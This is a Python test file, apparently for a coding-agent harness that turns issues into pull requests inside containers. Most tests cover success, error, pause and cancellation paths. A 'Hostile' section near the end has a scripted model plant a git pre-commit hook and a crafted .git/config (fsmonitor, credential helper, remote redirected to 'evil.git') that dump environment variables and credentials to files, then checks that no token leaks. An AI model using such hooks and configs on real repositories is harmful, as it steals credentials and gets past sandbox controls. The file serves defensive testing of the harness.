"""TaskHandler: from an issue to a proposed change, and an end of every kind, in real containers.

The tracker and git are a server; the model is a script; everything else is real.
"""

import asyncio
import logging
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from kakoi.agent.loop import Limits
from tests.agent.models_for_tests import Script, call, done
from tests.engine import containers
from tests.tasks.conftest import Make
from tests.tasks.hosting import bridge
from tests.tasks.houses import KEY, MEND, House
from tests.tasks.hub import BROKEN, ISSUE, MENDED, PULL, RUN_TESTS, Hosting, Hub, a_hub, git
from tests.tasks.trackers import TOKEN

pytestmark = pytest.mark.anyio


@pytest.fixture
def hub(engine: None, tmp_path: Path) -> Iterator[Hub]:
    """On the bridge of the engine: containers and this machine see it at the same address."""
    with a_hub(tmp_path / "srv", bridge()) as hub:
        yield hub


@pytest.fixture
def house(hub: Hub, make: Make, tmp_path: Path) -> House:
    manager = make(tokens=hub.environ, install_dependencies=False)
    return House(hub, manager, tmp_path)


# --- The whole way ---------------------------------------------------------------------------


@pytest.mark.requirement("A-006")
@pytest.mark.requirement("A-084")
async def test_an_issue_becomes_a_pull_request_with_tests_that_pass(
    house: House, owner: str, caplog: pytest.LogCaptureFixture
) -> None:
    heard: list[str] = []

    def then(said: Any) -> Callable[[str], Any]:
        def react(last: str) -> Any:
            heard.append(last)
            return said

        return react

    caplog.set_level(logging.DEBUG)
    handled = await house.handle(
        call("execute_command", command=RUN_TESTS),
        then(MEND),
        then(call("execute_command", command=f"{RUN_TESTS}; env; cat .git/config; ls -a / ~")),
        then(done("add adds; its test passes")),
    )
    assert (handled.stage, handled.error) == ("done", "")
    failed, _edited, passed = heard
    assert "AssertionError: -1 != 5" in failed
    assert "OK" in passed
    assert house.steps == ["prepare", "model", "cleanup"]
    hub = house.hub
    (pull,) = hub.new_pulls()
    assert pull["head"]["ref"] == handled.branch  # type: ignore[index] # of JSON
    assert pull["base"]["ref"] == "main"  # type: ignore[index] # of JSON
    assert hub.file(handled.branch, "adder.py") == MENDED
    assert "adder.py" in hub.files(handled.branch)
    assert not [name for name in hub.files(handled.branch) if "pycache" in name]
    assert git(hub.repository, "rev-parse", f"{handled.branch}~1") == git(
        hub.repository, "rev-parse", "main"
    )
    assert hub.file("main", "adder.py") == BROKEN
    assert hub.stage() == "done"
    (said,) = hub.said()
    assert "add adds; its test passes" in said
    assert handled.url in said
    assert containers(owner) == []
    # The token was nowhere but on its way to the server.
    (transcript,) = house.transcripts()
    for place in (hub.everything_said(), transcript.read_text(), passed, caplog.text):
        assert TOKEN not in place
    assert TOKEN not in (house.folder / "audit.jsonl").read_text()


async def test_what_is_done_about_a_pull_request_is_pushed_to_its_branch(house: House) -> None:
    handled = await house.handle(MEND, done("mended"), key=house.hub.pull)
    assert (handled.stage, handled.branch, handled.url) == ("done", "feature", "")
    assert house.hub.file("feature", "adder.py") == MENDED
    assert house.hub.new_pulls() == []
    assert sorted(house.hub.branches()) == ["feature", "main"]
    assert "`feature`" in house.hub.said(PULL)[0]


async def test_no_change_is_no_pull_request_and_said_so(house: House) -> None:
    handled = await house.handle(done("there is nothing to mend"))
    assert (handled.stage, handled.branch) == ("done", "")
    assert sorted(house.hub.branches()) == ["feature", "main"]
    (said,) = house.hub.said()
    assert "Nothing was changed" in said
    assert "there is nothing to mend" in said


# --- Ends of other kinds ---------------------------------------------------------------------


@pytest.mark.requirement("A-094")
async def test_a_container_that_cannot_be_made_is_told_and_ends_in_error(
    hub: Hub, make: Make, tmp_path: Path, owner: str, caplog: pytest.LogCaptureFixture
) -> None:
    manager = make(tokens=hub.environ, image="kakoi-test:no-such-image")
    house = House(hub, manager, tmp_path)
    handled = await house.handle(done())
    assert handled.stage == hub.stage() == "error"
    assert "kakoi-test:no-such-image" in handled.error
    (said,) = hub.said()
    assert "kakoi-test:no-such-image" in said
    assert "kakoi-test:no-such-image" in caplog.text
    assert "model" not in house.steps
    assert containers(owner) == []


@pytest.mark.requirement("A-095")
async def test_a_clone_that_fails_is_told_after_the_container_is_gone(
    house: House, owner: str, caplog: pytest.LogCaptureFixture
) -> None:
    house.hub.repository.rename(house.hub.repository.with_name("gone.git"))
    there_when_told: list[list[str]] = []
    say = house.hub.say

    def told(*words: Any, **more: Any) -> Any:
        there_when_told.append(containers(owner))
        return say(*words, **more)

    house.hub.say = told  # type: ignore[method-assign] # to look at that very moment
    handled = await house.handle(done())
    assert handled.stage == house.hub.stage() == "error"
    assert "CLONE_FAILED" in handled.error
    assert there_when_told == [[]]
    assert "cloning" in caplog.text
    assert TOKEN not in caplog.text + handled.error


@pytest.mark.requirement("A-085")
@pytest.mark.parametrize(
    ("said", "limits", "words"),
    [
        ([call("list_files")], Limits(steps=2), "the limit of 2 steps"),
        (["I wonder."], Limits(steps=20), "5 answers in a row"),
        ([RuntimeError("a defect")], Limits(steps=20), "kakoi failed: RuntimeError"),
        ([MEND, done("too hard", gave_up=True)], Limits(steps=20), "too hard"),
    ],
)
async def test_what_ends_in_error_leaves_no_container_and_pushes_nothing(
    house: House, owner: str, said: list[Any], limits: Limits, words: str
) -> None:
    house.limits = limits
    handled = await house.handle(*said)
    assert handled.stage == house.hub.stage() == "error"
    assert words in house.hub.said()[0]
    assert house.steps[-1] == "cleanup"
    assert containers(owner) == []
    assert sorted(house.hub.branches()) == ["feature", "main"]


async def test_a_command_that_fails_is_told_to_the_model_and_not_the_end(house: House) -> None:
    heard: list[str] = []

    def react(last: str) -> Any:
        heard.append(last)
        return done("it is not there")

    handled = await house.handle(call("execute_command", command="ls no-such-file"), react)
    assert handled.stage == "done"
    assert "no-such-file" in heard[0]
    assert "exit code 2" in heard[0]


async def test_a_push_that_is_refused_is_an_error_without_the_token(
    house: House, owner: str, caplog: pytest.LogCaptureFixture
) -> None:
    house.hub.refused = True
    handled = await house.handle(MEND, done("mended"))
    assert handled.stage == house.hub.stage() == "error"
    assert "PUSH_FAILED" in handled.error
    assert "may the token push" in handled.error
    assert TOKEN not in caplog.text + handled.error + house.hub.said()[0]
    assert house.hub.new_pulls() == []
    assert containers(owner) == []
    [patch] = (house.folder / "transcripts").glob("*.patch")
    assert "adder.py" in patch.read_text()
    assert "`git apply`" in house.hub.said()[0]


async def test_a_branch_that_moved_meanwhile_is_not_overwritten(house: House) -> None:
    hub = house.hub

    def moves(_last: str) -> Any:
        git(hub.repository, "update-ref", "refs/heads/feature", _empty_commit(hub, "feature"))
        return done("mended")

    handled = await house.handle(MEND, moves, key=hub.pull)
    assert handled.stage == "error"
    assert "somebody else has pushed" in handled.error
    assert hub.file("feature", "adder.py") == BROKEN


def _empty_commit(hub: Hosting, branch: str) -> str:
    who = ["-c", "user.name=a", "-c", "user.email=a@b"]
    tree = git(hub.repository, "rev-parse", f"{branch}^{{tree}}")
    return git(hub.repository, *who, "commit-tree", tree, "-p", branch, "-m", "theirs")


# --- Pause, stop, resume ---------------------------------------------------------------------


@pytest.mark.requirement("A-087")
@pytest.mark.parametrize("by", ["unassigned", "closed"])
async def test_a_task_that_is_taken_from_us_stops_between_steps(
    house: House, owner: str, by: str
) -> None:
    assert isinstance(house.hub, Hub)
    issue = house.hub.issues[ISSUE]
    issue["assignees"] = [{"login": "bot"}]

    def react(_last: str) -> Any:
        if by == "closed":
            issue["state"] = "closed"
        else:
            issue["assignees"] = []
        return MEND

    script = Script(call("list_files"), react, done("never said"))
    handled = await house.handle(script=script)
    assert handled.stage == house.hub.stage() == "stopped"
    assert len(script.asked) == 2
    assert house.steps[-1] == "cleanup"
    assert containers(owner) == []
    assert sorted(house.hub.branches()) == ["feature", "main"]


@pytest.mark.requirement("A-086")
@pytest.mark.slow("two environments")
async def test_a_paused_task_is_gone_on_with_in_a_new_container(house: House, owner: str) -> None:
    assert isinstance(house.hub, Hub)
    issue = house.hub.issues[ISSUE]

    def react(_last: str) -> Any:
        issue["labels"] = [{"name": "coding agent paused"}]
        return MEND

    handled = await house.handle(call("list_files"), react, done("never said"))
    assert handled.stage == house.hub.stage() == "paused"
    assert house.steps == ["prepare", "model", "cleanup"]
    assert containers(owner) == []
    issue["labels"] = [{"name": "coding agent"}]
    script = Script(done("mended"))
    handled = await house.handle(script=script)
    assert handled.stage == house.hub.stage() == "done"
    assert house.steps == ["prepare", "model", "cleanup"] * 2
    assert "adder.py" in str(script.asked[0])  # What was listed before the pause.
    assert "the environment was made anew" in str(script.asked[0])
    # What was changed before the pause is part of the work.
    assert house.hub.file(handled.branch, "adder.py") == MENDED
    # It has ended: the next time is a new beginning.
    script = Script(done("x"))
    handled = await house.handle(script=script)
    assert "made anew" not in str(script.asked[0])
    assert handled.branch == ""


@pytest.mark.slow("a whole task, cancelled half-way")
async def test_who_is_cancelled_leaves_no_container_and_the_task_as_begun(
    house: House, owner: str
) -> None:
    sleeping = asyncio.Event()

    def react(_last: str) -> Any:
        sleeping.set()
        return call("execute_command", command="sleep 600")

    working = asyncio.ensure_future(house.handle(call("list_files"), react))
    await asyncio.wait_for(sleeping.wait(), 60)
    working.cancel()
    with pytest.raises(asyncio.CancelledError):
        await working
    assert containers(owner) == []
    assert house.hub.stage() == "processing"
    assert house.hub.said() == []


async def test_a_task_that_ends_whoever_does_it_is_not_begun_for_ever(house: House) -> None:
    handled = await house.handle(done(), attempt=6)
    assert handled.stage == house.hub.stage() == "error"
    assert "begun 5 times" in house.hub.said()[0]
    assert house.steps == []


# --- Hostile ---------------------------------------------------------------------------------

# No tool may write to .git, but a program that the model wrote may: it is in a sandbox.
OWN_GIT = """\
import os, pathlib
HOOK = "#!/bin/sh\\nenv > /workspace/project/leak-hook; exit 1\\n"
for path in (".git/hooks/pre-commit", ".hooks/pre-commit"):
    pathlib.Path(path).parent.mkdir(exist_ok=True)
    pathlib.Path(path).write_text(HOOK)
    os.chmod(path, 0o755)
pathlib.Path(".git/config").write_text(pathlib.Path("config.txt").read_text())
print("owned")
"""
CONFIG = """\
[core]
\trepositoryformatversion = 0
\thooksPath = .hooks
\tfsmonitor = touch /workspace/project/leak-fsmonitor
[remote "origin"]
\turl = http://127.0.0.1:9/evil.git
[url "http://127.0.0.1:9/"]
\tinsteadOf = http://
[credential]
\thelper = "!env > /workspace/project/leak-helper; cat >> /workspace/project/leak-helper; #"
"""


async def test_a_model_that_owns_git_in_its_container_gets_no_token(house: House) -> None:
    heard: list[str] = []

    def react(last: str) -> Any:
        heard.append(last)
        return done(f"mended, and by the way {TOKEN} {KEY}")

    handled = await house.handle(
        MEND,
        call("write_file", path="config.txt", content=CONFIG),
        call("write_file", path="own.py", content=OWN_GIT),
        call("execute_command", command="python3 own.py"),
        react,
    )
    hub = house.hub
    assert "owned" in heard[0]
    assert handled.stage == "done", handled.error
    assert hub.file(handled.branch, "adder.py") == MENDED
    assert not [name for name in hub.files(handled.branch) if name.startswith("leak")]
    said = hub.everything_said()
    assert TOKEN not in said
    assert KEY.rpartition("@")[2] not in said


async def test_history_that_was_rewritten_stays_where_it_was_made(house: House) -> None:
    script = "import pathlib; pathlib.Path('.git/HEAD').write_text('ref: refs/heads/elsewhere')"
    handled = await house.handle(
        call("write_file", path="rewrite.py", content=script),
        call("execute_command", command="python3 rewrite.py"),
        done("rewritten"),
    )
    assert (handled.stage, handled.error) == ("done", "")
    assert sorted(house.hub.branches()) == [handled.branch, "feature", "main"]
    assert "adder.py" in house.hub.files(handled.branch)
    repository = house.hub.repository
    assert git(repository, "rev-parse", f"{handled.branch}~1") == git(
        repository, "rev-parse", "main"
    )


async def test_rules_of_the_project_hold_in_its_environment(house: House) -> None:
    repository = house.hub.repository
    blob = git_input(repository, "policy: {blocked: [python3]}\ntools: {exclude: [write_file]}\n")
    who = ["-c", "user.name=a", "-c", "user.email=a@b"]
    tree = git(repository, "ls-tree", "main") + f"\n100644 blob {blob}\t.coding-agent-rules.yaml\n"
    made = git_input(repository, tree, "mktree")
    commit = git(repository, *who, "commit-tree", made, "-p", "main", "-m", "rules")
    git(repository, "update-ref", "refs/heads/main", commit)
    heard: list[str] = []

    def react(last: str) -> Any:
        heard.append(last)
        return done("I may not")

    script = Script(call("execute_command", command=RUN_TESTS), react)
    await house.handle(script=script)
    assert "python3" in heard[0]
    assert "OK" not in heard[0]
    assert "write_file" not in script.tools
    assert "/workspace/project" in script.instructions


def git_input(folder: Path, text: str, *argv: str) -> str:
    words = argv or ("hash-object", "-w", "--stdin")
    done = subprocess.run(
        ["git", "-C", str(folder), *words], input=text, capture_output=True, text=True, check=True
    )
    return done.stdout.strip()
